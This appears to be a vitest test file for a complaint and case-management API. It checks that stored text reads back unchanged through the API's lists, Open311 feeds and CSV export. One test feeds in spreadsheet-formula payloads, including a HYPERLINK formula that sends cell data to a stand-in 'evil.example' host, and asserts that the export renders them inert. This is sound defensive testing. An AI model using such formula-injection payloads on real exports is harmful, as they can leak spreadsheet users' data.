import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { leadingCharacters } from '../domain/text';
import { createTokenService } from '../services/token.service';
import { type ApiStack, startApiStack } from './support/api';

/**
 * What one call stores, every other call reads back unharmed: free text that looks like a time,
 * a formula or anything else Unicode can spell is data, shown as it was written.
 */
describe('stored text reads back unchanged through every list and export', () => {
  let api: ApiStack;
  beforeAll(async () => {
    api = await startApiStack({ complaintsPerMinute: 100_000 });
  });
  afterAll(() => api?.close());

  const office = () => api.tokens.office;

  async function csvRows(query = ''): Promise<Record<string, string>[]> {
    const response = await fetch(`${api.url}/api/v1/cases/export.csv${query}`, { headers: { authorization: `Bearer ${office()}` } });
    expect(response.status).toBe(200);
    return parse<Record<string, string>>((await response.text()).replace(/^\uFEFF/, ''), { columns: true });
  }

  it('keeps text that looks like an instant (valid or not) as text, and every public list keeps answering', async () => {
    const impossible = '2026-13-01T00:00:00Z';
    const plausible = '2026-01-01T00:00:00Z';
    const filed = await api.call('POST', '/api/v1/complaints', { body: { description: impossible, location: { address: plausible } } });
    expect(filed.status, filed.text).toBe(201);
    expect(filed.body).toMatchObject({ description: impossible, address: plausible });
    const code = filed.body.trackingCode as string;
    const converted = await api.call('POST', `/api/v1/complaints/${code}/convert`, {
      token: office(),
      body: { title: plausible, category: plausible, severity: 'general', leadDepartment: 'CG' },
    });
    expect(converted.status, converted.text).toBe(200);
    const caseId = converted.body.case.id as string;
    const task = `/api/v1/cases/${caseId}/tasks/${caseId}-T1`;
    expect((await api.call('POST', `${task}/acknowledge`, { token: api.tokens.CG, body: { note: impossible } })).status).toBe(200);
    expect((await api.call('POST', `${task}/progress`, { token: api.tokens.CG, body: { note: plausible } })).status).toBe(200);

    // Every reader: the complaint by code, the office's queue, Open311 in both formats, the case,
    // the case list, the export.
    expect((await api.call('GET', `/api/v1/complaints/${code}`)).body).toMatchObject({ description: impossible, address: plausible });
    const queue = await api.call('GET', `/api/v1/complaints?trackingCode=${code}`, { token: office() });
    expect(queue.status).toBe(200);
    expect(queue.body[0]).toMatchObject({ description: impossible, address: plausible });
    const published = await api.call('GET', '/open311/v2/requests.json');
    expect(published.status).toBe(200);
    expect(published.body.find((r: { service_request_id: string }) => r.service_request_id === caseId)).toMatchObject({
      description: plausible,
      address: plausible,
    });
    const xml = await api.call('GET', '/open311/v2/requests.xml');
    expect(xml.status).toBe(200);
    expect(xml.text).toContain(`<description>${plausible}</description>`);
    expect((await api.call('GET', `/open311/v2/requests/${code}.json`)).body[0].description).toBe(impossible);

    const shown = await api.call('GET', `/api/v1/cases/${caseId}`, { token: office() });
    expect(shown.status).toBe(200);
    expect(shown.body.case).toMatchObject({ title: plausible, description: impossible, category: plausible, location: { address: plausible } });
    const notes = shown.body.events.filter((e: { payload: { note?: string } }) => e.payload.note !== undefined).map((e: { payload: { note: string } }) => e.payload.note);
    expect(notes).toEqual([impossible, plausible]);
    // Instants the schema declares are still shown in the office's zone.
    expect(shown.body.case.openedAt).toMatch(/\+08:00$/);
    expect(shown.body.events.find((e: { action: string }) => e.action === 'task.assigned').payload.rectificationDueAt).toMatch(/\+08:00$/);

    const listed = await api.call('GET', `/api/v1/cases?category=${encodeURIComponent(plausible)}`, { token: office() });
    expect(listed.status).toBe(200);
    expect(listed.body.items.map((c: { id: string; title: string; description: string }) => [c.id, c.title, c.description])).toEqual([
      [caseId, plausible, impossible],
    ]);
    const row = (await csvRows()).find((r) => r.id === caseId);
    expect(row).toMatchObject({ title: plausible, category: plausible, address: plausible });
    expect(row!.openedAt).toMatch(/\+08:00$/);
  });

  it('exports text that a spreadsheet would run as a formula as inert text', async () => {
    const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+86 138', '-1+2', '@SUM(A1:A9)'];
    const ids: string[] = [];
    for (const text of dangerous) {
      const opened = await api.call('POST', '/api/v1/cases', {
        token: office(),
        body: { title: text, category: '公式', severity: 'general', source: 'inspection', leadDepartment: 'CG', location: { address: text } },
      });
      expect(opened.status, opened.text).toBe(201);
      ids.push(opened.body.caseId);
    }
    const rows = await csvRows(`?category=${encodeURIComponent('公式')}`);
    expect(rows.map((r) => r.id).sort()).toEqual([...ids].sort());
    for (const r of rows) {
      for (const [column, value] of Object.entries(r)) {
        expect(value, `${column} of ${r.id}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const byTitle = new Map(rows.map((r) => [r.id, r.title]));
    expect(ids.map((id) => byTitle.get(id))).toEqual(dangerous.map((t) => `'${t}`));
    // The API itself answers the text as it was written.
    const first = await api.call('GET', `/api/v1/cases/${ids[0]}`, { token: office() });
    expect(first.body.case.title).toBe(dangerous[0]);
  });

  it('reads back any Unicode text stored through any endpoint, unchanged (property)', async () => {
    // Text as a person could type it: any code points, including controls and astral characters;
    // the API trims surrounding white space, and refuses text that is only white space.
    const text = fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }).filter((s) => s.trim().length > 0);
    let n = 0;
    await fc.assert(
      fc.asyncProperty(text, text, text, async (a, b, c) => {
        n++;
        const [ta, tb, tc] = [a.trim(), b.trim(), c.trim()];
        const department = `P${n}X${Date.now() % 100000}`;
        const added = await api.call('POST', '/api/v1/departments', { token: office(), body: { code: department, name: a } });
        expect(added.status, added.text).toBe(201);
        const opened = await api.call('POST', '/api/v1/cases', {
          token: office(),
          body: { title: a, description: b, category: c, severity: 'general', source: 'inspection', leadDepartment: department, location: { address: b } },
        });
        expect(opened.status, opened.text).toBe(201);
        const caseId = opened.body.caseId as string;
        const deptToken = (await createTokenService({ db: api.db }).create({ role: 'department', department, name: c })).token;
        const task = `/api/v1/cases/${caseId}/tasks/${caseId}-T1`;
        expect((await api.call('POST', `${task}/acknowledge`, { token: deptToken, body: { note: c } })).status).toBe(200);
        expect((await api.call('POST', `${task}/progress`, { token: deptToken, body: { note: a } })).status).toBe(200);
        const filed = await api.call('POST', '/api/v1/complaints', { body: { description: a, location: { address: c }, contact: { name: b } } });
        expect(filed.status, filed.text).toBe(201);
        const code = filed.body.trackingCode as string;
        expect((await api.call('POST', `/api/v1/complaints/${code}/dismiss`, { token: office(), body: { reason: b } })).status).toBe(200);

        const shown = (await api.call('GET', `/api/v1/cases/${caseId}`, { token: office() })).body;
        expect(shown.case).toMatchObject({ title: ta, description: tb, category: tc, location: { address: tb } });
        const notes = shown.events.filter((e: { payload: { note?: string } }) => e.payload.note !== undefined).map((e: { payload: { note: string } }) => e.payload.note);
        expect(notes).toEqual([tc, ta]);
        const listed = (await api.call('GET', `/api/v1/cases?department=${department}`, { token: deptToken })).body.items;
        expect(listed.map((x: { title: string; description: string; category: string }) => [x.title, x.description, x.category])).toEqual([[ta, tb, tc]]);
        const departments = (await api.call('GET', '/api/v1/departments', { token: deptToken })).body;
        expect(departments.find((d: { code: string }) => d.code === department).name).toBe(ta);
        const row = (await csvRows(`?department=${department}`)).find((r) => r.id === caseId);
        const inert = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
        expect(row).toMatchObject({ title: inert(ta), category: inert(tc), address: inert(tb) });

        const tracked = (await api.call('GET', `/api/v1/complaints/${code}`)).body;
        expect(tracked).toMatchObject({ description: ta, title: leadingCharacters(ta, 40), address: tc, dismissReason: tb, status: 'dismissed' });
        const queued = (await api.call('GET', `/api/v1/complaints?trackingCode=${code}`, { token: office() })).body[0];
        expect(queued).toMatchObject({ description: ta, contact: { name: tb }, dismissReason: tb });
        expect((await api.call('GET', `/open311/v2/requests/${code}.json`)).body[0]).toMatchObject({ description: ta, address: tc });
      }),
      { numRuns: Number(process.env.DUBAN_PROPERTY_RUNS ?? 15), seed: Number(process.env.DUBAN_PROPERTY_SEED ?? 20261125) },
    );
  });
});
